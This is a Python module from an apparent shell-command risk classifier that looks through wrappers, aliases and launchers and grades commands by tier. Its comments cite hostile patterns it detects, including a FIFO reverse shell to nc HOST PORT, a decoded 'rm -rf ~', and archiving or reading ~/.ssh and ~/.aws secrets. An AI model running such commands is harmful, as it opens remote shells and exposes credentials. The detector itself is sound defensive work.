"""Dispatch: one expanded simple command (``argv``) to the handler that reads its program. The wrappers and
launchers in front of the program are looked through first (``sudo``, ``nice``, ``timeout``, ``env K=V``,
``uv run`` …), as are aliases and scripts written or downloaded before; then ``--help``/``--version`` and dry
runs (``--dry-run``: at most LOW), the program's option effects, its handler (or the read-only handler), and
the secret data flowing through it.

This is the one place that looks a program up in the registry (:mod:`core.policy.shell.registry`).
:class:`Dispatch` is a mixin of :class:`core.policy.shell.walker.ShellReader`; it also holds the reader's
handler map (``handlers``) and read-only set (``read_only``, with the operator's additions), and the calls of
one family's handler from another (:meth:`Dispatch.call`, :meth:`Dispatch.scan_code`).

To add a wrapper: a row in WRAPPERS (``core/policy/tables/programs.py``); a launcher (``X run CMD``): RUNNERS.
"""

from __future__ import annotations

import shlex
from itertools import repeat

from core.policy import _knowledge as K
from core.policy import _paths as P
from core.policy import tables as T
from core.policy.shell.common import show
from core.policy.shell.effects.arguments import METADATA_READERS
from core.policy.shell.effects.knowledge import (
    HANDLED,
    READ_ONLY,
    UNKNOWN,
    read_arguments,
    read_wrapper_options,
)
from core.policy.shell.effects.secrets import meta_outputs
from core.policy.shell.effects.shells import SHELL_NAMES, copied_shell, fifo_remote_shell
from core.policy.shell.globs import MAX_MATCHES as MAX_GLOB_MATCHES
from core.policy.shell.globs import has_glob, program_matches
from core.policy.shell.options import TARS, tar_old_style
from core.policy.shell.params import NAME_BUILTINS
from core.policy.shell.registry import (
    CODE_SCANNER,
    HTTP_METHOD_HANDLER,
    INIT_SCRIPT_HANDLER,
    MKFS_HANDLER,
    NAMED,
    READ_ONLY_HANDLER,
    build_handlers,
)
from core.policy.shell.state import (
    DECODED,
    MARK,
    MAX_ARGS,
    MAX_COMBOS,
    MAX_STACK,
    OTHER,
    SECRET,
    Acc,
    Ctx,
    FileInput,
    TextInput,
    is_downloaded,
)
from core.tiers import Tier

S, L, M, H, C = Tier.SAFE, Tier.LOW, Tier.MEDIUM, Tier.HIGH, Tier.CRITICAL

#: classes of a directory whose programs a glob in a relative program path may name (``cd /usr; ./b?n/r?``)
_PROGRAM_DIRS = frozenset((P.ROOT, P.SYSROOT, P.SYSTEM, P.UNKNOWN))


#: programs that look a program up (``$(which python3) -c …``: a program named by command output)
_LOOKUPS = frozenset(("which", "command", "type", "whence"))
#: programs that print the names of the files they are given or find (their output is file names)
_PATH_PRINTERS = frozenset(("realpath", "readlink", "grealpath", "greadlink"))
_LISTERS = frozenset(("find", "fd", "fdfind", "ls", "exa", "eza", "lsd", "tree", "dir", "vdir", "ll", "la",
                      "gfind", "bfs")) | _PATH_PRINTERS


#: archivers that read the names of the files to pack from their input, and the options that say so (None:
#: always)
_NAMES_FROM_INPUT = {"tar": ("-T", "--files-from"), "gtar": ("-T", "--files-from"), "bsdtar": ("-T", "--files-from"),
                     "cpio": None, "zip": ("-@", "--names-stdin"), "rsync": ("--files-from",),
                     "afio": None, "pax": None}


def _takes_names(prog: str, args: list) -> bool:
    opts = _NAMES_FROM_INPUT[prog]
    if opts is None:
        return True
    return any(a.split("=", 1)[0] in opts or (a[:1] == "-" and a[1:2] != "-" and "T" in a and prog != "zip")
               for a in args[:32])


def looks_dangerous(a: str) -> bool:
    """An operand worth reading even past :data:`MAX_ARGS`: root, home and system spellings, devices,
    secrets, unknown values."""
    if not a:
        return False
    c = a[0]
    if c == "/":
        top = a[1:].split("/", 1)[0]
        return top in T.TOP_LEVEL_NAMES or top in ("", "*", "home", "Users", "root", "dev", "proc") or "*" in top
    return c in "~$.\x00" or a.startswith(("of=", "if=")) or MARK in a or "sysrq" in a


def _cap_args(argv: list, metas: list, acc: Acc):
    """Too many operands to read one by one: keep the program, every option, the first operands and every
    operand that looks dangerous (fail closed: at least MEDIUM)."""
    keep: dict = {}
    n_ops = 0
    for k, a in enumerate(argv):
        if a in keep:
            continue
        if k == 0 or a[:1] == "-" or n_ops < MAX_ARGS // 2 or looks_dangerous(a):
            keep[a] = metas[k] if k < len(metas) else None
            if k and a[:1] != "-":
                n_ops += 1
            if len(keep) > 4 * MAX_ARGS:
                break
    if len(keep) < len(argv):
        acc.add(M, "shell.too_long", "too many arguments to read one by one")
    return list(keep), list(keep.values())


class Dispatch:
    """Program dispatch: the reader's handler map and read-only set, :meth:`run_argv`, and the calls of one family's
    handler from another (needs the reader's ``run_text`` and the effects mixins)."""

    def __init__(self, read_only_extra=(), programs_extra=None):
        """``read_only_extra``: the operator's read-only programs (``policy.read_only_programs``), SAFE like
        READ_ONLY; ``programs_extra``: additions to the program knowledge table (``policy.programs``). The handler
        map is built here, one per reader (:func:`registry.build_handlers`)."""
        self.read_only = T.READ_ONLY | frozenset(read_only_extra)
        self.programs = K.load(extra=programs_extra) if programs_extra else K.PROGRAMS
        self.handlers = build_handlers()
        self._names: str | None = None

    def known_names(self) -> str:
        """Every program name the tables know, one per line, shells and interpreters first (what a glob in a
        program's name is matched against)."""
        if self._names is None:
            order = [sorted(SHELL_NAMES), sorted(self.handlers), sorted(T.WRAPPERS), sorted(T.RUNNERS),
                     sorted(self.programs), sorted(self.read_only)]
            self._names = "\n".join(dict.fromkeys(n for group in order for n in group if "\n" not in n))
        return self._names

    def _glob_program(self, argv: list, metas: list, ctx: Ctx, acc: Acc, stdin):
        """``/bin/ba?h -c CMD``: bash runs whatever file the glob in the program's name matches, so the command is
        read as each known program it may match (at least MEDIUM: the program is decided by a glob). None when
        it matches none (an unknown program, read as usual)."""
        w0 = argv[0]
        head, _, base = w0.rpartition("/")
        if not head and w0[:1] != "/":
            return None  # (a bare `ba?h` is matched against the working directory's files, not the PATH)
        if w0[:1] not in "/~" and not w0.startswith("..") and self.pclass(head, ctx) not in _PROGRAM_DIRS:
            return None  # (`src/**/*.py`, `./run-*.sh`: the workspace's own scripts)
        found = program_matches(base, self.known_names())
        if not found or base in found:
            return None
        acc.add(M, "shell.glob_program", f"program name decided by a glob ({show(w0)} may run "
                                         f"{', '.join(found[:3])}{' …' if len(found) > 3 else ''})")
        budget = ctx.budget
        if budget.globs <= 0:
            return OTHER
        budget.globs -= 1
        head = w0[:len(w0) - len(base)]
        out = OTHER
        for k, name in enumerate(found[:MAX_GLOB_MATCHES]):
            if acc.tier >= C:
                break
            o = self.run_argv([head + name] + argv[1:], metas, ctx, acc, stdin)
            out = o if k == 0 else out
        return out

    def run_argv(self, argv: list, metas: list, ctx: Ctx, acc: Acc, stdin):
        """Classify one expanded simple command ``argv``; returns what it prints (for pipes)."""
        budget = ctx.budget
        if budget.depth >= MAX_STACK:
            acc.add(M, "shell.too_deep", "commands nested too deep to read")
            return OTHER
        if len(argv) > MAX_ARGS:
            argv, metas = _cap_args(argv, metas, acc)
        budget.depth += 1
        try:
            return self._run_argv(argv, metas, ctx, acc, stdin)
        finally:
            budget.depth -= 1

    def _run_argv(self, argv: list, metas: list, ctx: Ctx, acc: Acc, stdin):
        """:meth:`run_argv` inside the dispatch-depth bound: wrappers, aliases, scripts and launchers looked through,
        then the program's handler."""
        for _ in range(12):
            w0 = argv[0]
            if not w0:
                acc.add(L, "shell.empty_program", "an empty program name (the shell finds no such command)")
                return OTHER
            if MARK in w0:
                meta = metas[0] if metas else None
                if meta and meta[0] is not None and (w0 == MARK or meta[2] in _LOOKUPS):
                    acc.add(H, "shell.dynamic_program", "runs a program whose name comes from command output")
                else:
                    acc.add(M, "shell.dynamic_program", "program name decided at run time")
                return OTHER
            if metas and metas[0] is not None and metas[0][0] is DECODED:
                # $(echo cm0= | base64 -d) -rf ~: decoded data run (HIGH whatever it decodes to, as `| sh` is)
                acc.add(H, "shell.dynamic_program", "runs a program whose name comes from command output")
                return OTHER
            if ("*" in w0 or "?" in w0 or "[" in w0) and has_glob(w0):
                out = self._glob_program(argv, metas, ctx, acc, stdin)
                if out is not None:
                    return out
            if w0[:1] == "!" and len(w0) > 1 or w0[:2] == ":!" and len(w0) > 2:
                # `!CMD` typed into an interactive program (ftp, gdb, less, man …) runs CMD in a shell
                acc.add(M, "shell.bang", f"{show(w0)}: a shell escape typed into an interactive program")
                argv = [w0.lstrip(":!")] + argv[1:]
                metas = [None] + metas[1:]
                continue
            if ctx.aliases and w0 in ctx.aliases:
                # an alias runs its value with the words after it (not expanded again inside its own value)
                c = ctx.child()
                c.aliases = {k: v for k, v in ctx.aliases.items() if k != w0}
                acc.add(S, "shell.alias", f"{w0} (an alias)")
                self.run_text(" ".join([ctx.aliases[w0]] + [shlex.quote(a) for a in argv[1:]]), c, acc)
                return OTHER
            prog = w0.rsplit("/", 1)[-1] if "/" in w0 else w0
            if "/" in w0 and w0 != "/":
                key = P.normalize(w0, ctx.cwd)
                if is_downloaded(ctx, key):
                    acc.add(H, "shell.download_exec", f"runs downloaded code ({show(w0)})")
                if key in ctx.written:
                    self.run_text(ctx.written[key], ctx, acc)
                copied = copied_shell(key, ctx) if ctx.flags else None
                if copied is not None:  # (cp /bin/sh ./x; ./x -c CMD: the shell under another name)
                    argv = [copied] + argv[1:]
                    continue
                if w0.startswith("/etc/init.d/") or w0.startswith("/etc/rc.d/"):
                    return INIT_SCRIPT_HANDLER(self, "service", [prog] + argv[1:], metas, ctx, acc, stdin)
            if prog == "command" and len(argv) > 1 and argv[1] in ("-v", "-V"):
                acc.add(S, "shell.read_only", "command -v (looks a program up)")
                return OTHER
            if prog in ("busybox", "toybox") and len(argv) > 1 and argv[1] == "--install":
                # links to every applet, made in DIR (/bin by default)
                d = next((a for a in argv[2:] if a[:1] != "-"), "/bin")
                self.write_into(d, ctx, acc, f"{prog} --install makes links in")
                return OTHER
            wrap = T.WRAPPERS.get(prog)
            if wrap is not None:
                rest, rmetas = self._peel(prog, wrap, argv, metas, ctx, acc)
                if rest is None:
                    return None
                argv, metas = rest, rmetas
                continue
            if prog == "env":
                r = self._env(argv, metas, ctx, acc)
                if r is None or r is SECRET:
                    return r
                argv, metas = r
                continue
            runner = T.RUNNERS.get(prog)
            if runner and len(argv) > 1 and argv[1] in runner:
                k = 2
                while k < len(argv) and argv[k].startswith("-"):
                    k += 1 if argv[k] != "--" else 0
                    if k < len(argv) and argv[k] == "--":
                        k += 1
                        break
                k += T.RUNNER_OPERANDS.get(prog, 0)
                if k >= len(argv):
                    acc.add(L, "shell.program", f"{prog} {argv[1]}")
                    return OTHER
                if k == len(argv) - 1 and " " in argv[k].strip():
                    self.run_text(argv[k], ctx, acc)  # (scl enable COLL 'CMD ARGS': one command string)
                    return OTHER
                before = argv[k - 1]
                if before[:1] == "-" and "=" not in before and before != "--" and k + 1 < len(argv):
                    # (uv run --with X CMD, conda run -n ENV CMD): the option may take the word as its value
                    self.run_argv(argv[k + 1:], metas[k + 1:], ctx.child(), acc, stdin)
                argv, metas = argv[k:], metas[k:]
                continue
            break
        else:
            acc.add(M, "shell.wrappers", "too many wrappers to look through")
            return OTHER
        args = argv[1:]
        if prog in NAME_BUILTINS and args and (prog == "let" or any("[" in a or a[:1] in "-+" for a in args)):
            self.arith_names(prog, args, ctx, acc)  # (`declare 'a[$(cmd)]=1'`: bash evaluates the subscript)
        if args and (args[-1] == "--help" or args[-1] == "--version") and len(args) <= 4 and all(
                a and a[0] != "-" and "/" not in a for a in args[:-1]):
            acc.add(S, "shell.help", f"{prog} {args[-1]} (help text)")
            return OTHER
        dry = False
        if prog not in T.NO_DRY_RUN and any(map(str.startswith, args, repeat("--dry"))):
            for a in args:
                if a.startswith("--dry-run") or a == "--dryrun" or a == "--dry_run":
                    if a not in ("--dry-run=none", "--dry-run=false"):
                        dry = True
                        break
        target = Acc() if dry else acc
        prev_cur = acc.cur
        acc.cur = argv
        spec = T.OPTION_EFFECTS.get(prog)
        if spec is not None:
            self.option_effects(prog, spec, tar_old_style(args) if prog in TARS else args, ctx, target, stdin)
        handler = self.handlers.get(prog)
        if handler is None and prog.startswith("mkfs"):
            handler = MKFS_HANDLER
        if handler is not None:
            out = handler(self, prog, args, metas[1:], ctx, target, stdin)
        elif prog in self.read_only:
            out = READ_ONLY_HANDLER(self, prog, args, metas[1:], ctx, target, stdin)
        elif prog in T.HTTP_METHODS and args:
            out = HTTP_METHOD_HANDLER(self, prog, args, metas[1:], ctx, target, stdin)
        elif prog in ctx.funcs:
            target.add(L, "shell.function", f"call of the shell function {prog}")
            out = OTHER
        else:
            if target.tier < L:  # (the reason is only built when it can count)
                target.add(L, "shell.program", f"{prog} (not known to be read-only)")
            out = OTHER
        # what the arguments say the command does, whatever the program (tiers.md v3.2)
        read_arguments(self, prog, args, metas[1:], ctx, target, stdin,
                       HANDLED if handler is not None or prog in ctx.funcs or prog in T.HTTP_METHODS else
                       READ_ONLY if prog in self.read_only else UNKNOWN)
        if ctx.flags or prog == "mkfifo" or prog == "mknod":
            fifo_remote_shell(prog, args, stdin, ctx, target)  # (mkfifo p; sh -i < p 2>&1 | nc HOST PORT > p)
        sender = prog in T.NETWORK_SENDERS or (prog in T.NETWORK_SENDER_COMMANDS and any(
            a in T.NETWORK_SENDER_COMMANDS[prog] for a in args[:4]))
        if type(stdin) is FileInput and sender:
            self.sends_secret(prog, stdin.path, ctx, acc)
        elif type(stdin) is FileInput and target.tier < M and prog not in METADATA_READERS and (
                self.is_secret_path(stdin.path, ctx)):
            # a secret file on the input of a program that shows what it reads (tee < .env, xargs < environ)
            acc.add(M, "shell.secret_read", f"{prog} reads {show(stdin.path)} (secrets) on its input")
        if sender and prog not in T.NETWORK_SENDERS and (stdin is SECRET or stdin == SECRET):
            acc.add(H, "shell.secret_send", f"{prog} sends secret contents (piped) over the network")
        listed = out if type(out) is TextInput and prog in _LISTERS else None  # (find -name: names it found)
        if (ctx.secretish or stdin is SECRET or SECRET in meta_outputs(metas)) and (
                out is not None or prog in T.NETWORK_SENDERS or prog in T.UPLOADERS):
            out = self.secret_flow(prog, args, metas, stdin, ctx, acc, out)
        if listed is not None:
            out = listed
        elif prog in _LISTERS and (out is OTHER or out is None or out is SECRET) and args:
            out = self._listed_secrets(prog, args, ctx) or out  # (names, not contents)
        elif type(stdin) is TextInput and prog in _NAMES_FROM_INPUT and _takes_names(prog, args) and any(
                self._names_secret(f, ctx) for f in stdin.text.split("\n")[:MAX_COMBOS] if f):
            # an archive of the files named on its input (`find ~/.ssh | tar czf - -T -`)
            acc.add(M, "args.secret_read", f"{prog} is given the names of secret files on its input: it reads them")
            out = SECRET
        if dry:
            acc.add(min(max(target.tier, S), L), "shell.dry_run", f"dry run: {target.reason or prog}")
        acc.cur = prev_cur
        return out

    def _names_secret(self, f: str, ctx: Ctx) -> bool:
        """``f`` is (or, with a part unknown until run time, is inside) a sensitive, .env or secret file."""
        return self.pclass(f, ctx) in (P.SENSITIVE, P.ENV) or P.is_secret_read(P.normalize(f, ctx.cwd))

    def _listed_secrets(self, prog: str, args: list, ctx: Ctx):
        """What a program that prints file names prints when it lists a directory of credentials (``find
        ~/.ssh``, ``ls ~/.aws/*``) or names a secret file (``realpath .env``): those names, as text whose file
        part is unknown (``~/.ssh/<unknown>``), so ``| xargs cat`` reads a secret. None otherwise."""
        for k, a in enumerate(args[:16]):
            if not a or a[0] == "-" or MARK in a or (k and args[k - 1][:1] == "-" and prog != "ls"):
                continue  # (an option's value: find -name .env names a pattern, not a directory listed)
            if self._names_secret(a, ctx):
                if prog in _PATH_PRINTERS:
                    return TextInput(a, False)
                d = a[:-2] if a.endswith("/*") else a.rstrip("/")
                return TextInput(f"{d}/{MARK}", False)
        return None

    def _peel(self, prog, wrap, argv, metas, ctx, acc):
        """The command after a wrapper (``sudo -u x CMD`` -> ``CMD``; table WRAPPERS: its options that take a value,
        operands to skip, tier floor) as ``(argv, metas)``, or ``(None, None)`` when nothing follows or it was read
        here (``sudo -e FILE``)."""
        with_arg, skip, floor = wrap
        entry = self.programs.get(prog)
        if entry is not None and read_wrapper_options(self, prog, entry, argv[1:], ctx, acc, skip):
            return None, None  # (strace -o FILE, flock FILE -c CMD …; with nothing to run: an interactive shell)
        if floor > S:
            acc.add(floor, f"shell.{prog}", f"{prog} (runs as another user)" if floor == M else prog)
        i = 1
        n = len(argv)
        edit = False
        while i < n:
            a = argv[i]
            if a == "--":
                i += 1
                break
            if a.startswith("--"):
                if "=" not in a and a in with_arg:
                    i += 2
                else:
                    i += 1
                continue
            if a.startswith("-") and len(a) > 1 and not (prog in ("nice",) and a[1:].isdigit() and False):
                if prog == "nice" and a[1:].lstrip("-").isdigit():
                    i += 1
                    continue
                if prog == "sudo" and a in ("-e", "--edit"):
                    edit = True
                chars = a[1:]
                took = False
                for j, ch in enumerate(chars):
                    if ch in with_arg:
                        took = j == len(chars) - 1
                        break
                i += 2 if took else 1
                continue
            break
        i += skip
        if prog == "sudo" and edit:
            for f in argv[i:]:
                self.write_path(f, ctx, acc, "edit as root")
            return None, None
        if i < n and argv[i][:1] == "-" and len(argv[i]) > 1:
            return None, None  # (options after the wrapper's operands: `flock FILE -c CMD`, read by the table)
        if i >= n:
            if prog in ("sudo", "doas", "su", "pkexec", "run0"):
                acc.add(M, f"shell.{prog}", f"{prog} (root privileges)")
            else:
                acc.add(L, f"shell.{prog}", prog)
            return None, None
        return argv[i:], metas[i:]

    def _env(self, argv, metas, ctx, acc):
        """``env [-u K] [-C DIR] [-S STRING] [K=V …] CMD``: the variables set (and read), the command after them as
        ``(argv, metas)``; alone, every variable printed (SECRET) or None."""
        i, n = 1, len(argv)
        while i < n:
            a = argv[i]
            if a == "--":
                i += 1
                break
            if a in ("-u", "--unset", "-C", "--chdir"):
                if a in ("-C", "--chdir") and i + 1 < n:
                    ctx.cwd = P.normalize(argv[i + 1], ctx.cwd)
                i += 2
                continue
            if a.startswith("--chdir="):
                ctx.cwd = P.normalize(a[8:], ctx.cwd)
                i += 1
                continue
            # -S STRING in every spelling (-S 'x', -S'x', -iS 'x', --split-string='x', --split-string 'x'):
            # the string is split into the command and its first arguments
            split = None
            if a == "--split-string" and i + 1 < n:
                split, i = argv[i + 1], i + 2
            elif a.startswith("--split-string="):
                split, i = a[15:], i + 1
            elif a.startswith("-") and not a.startswith("--") and "S" in a:
                rest = a[a.index("S") + 1:]
                if rest:
                    split, i = rest, i + 1
                elif i + 1 < n:
                    split, i = argv[i + 1], i + 2
            if split is not None:
                try:
                    words = shlex.split(split)
                except ValueError:
                    words = split.split()
                return words + argv[i:], [None] * len(words) + metas[i:]
            if a[:1] == "-" and a[1:2] != "-" and len(a) > 2 and a[-1] in "uC" and "S" not in a:
                # a bundle ending in an option that takes the next word (-iC DIR, -iu NAME); -uNAME, -CDIR attached
                if a[-1] == "C" and i + 1 < n:
                    ctx.cwd = P.normalize(argv[i + 1], ctx.cwd)
                i += 2
                continue
            if a[:2] == "-C" and len(a) > 2:
                ctx.cwd = P.normalize(a[2:], ctx.cwd)
            if a.startswith("-"):
                i += 1
                continue
            if "=" in a and not a.startswith("="):
                k, v = a.split("=", 1)
                if k.replace("_", "a").isalnum() or (k.startswith("BASH_FUNC_") and k.endswith("%%")):
                    ctx.env[k] = v
                    self.set_var(k, v, ctx, acc)
                    i += 1
                    continue
            break
        if i >= n:
            acc.add(M, "shell.env.dump", "env prints every environment variable (secrets) into the agent's context")
            return SECRET
        return argv[i:], metas[i:]

    def has_handler(self, prog: str) -> bool:
        """Whether ``prog`` has a handler of its own (``python -m twine``: a module that is a program the tables
        know runs as that program)."""
        return prog in self.handlers

    def call(self, name: str, prog: str, args: list, metas: list, ctx: Ctx, acc: Acc, stdin):
        """Call the handler ``name`` of another family (``bun install``: the interpreters family's handler calls
        the packages family's ``h_pkg``)."""
        return NAMED[name](self, prog, args, metas, ctx, acc, stdin)

    def scan_code(self, code: str, ctx: Ctx, acc: Acc, lang: str | None = None) -> None:
        """Inline code (``python -c``, vim ``:py``, gdb): the calls it makes, read by the interpreters family."""
        CODE_SCANNER(self, code, ctx, acc, lang)
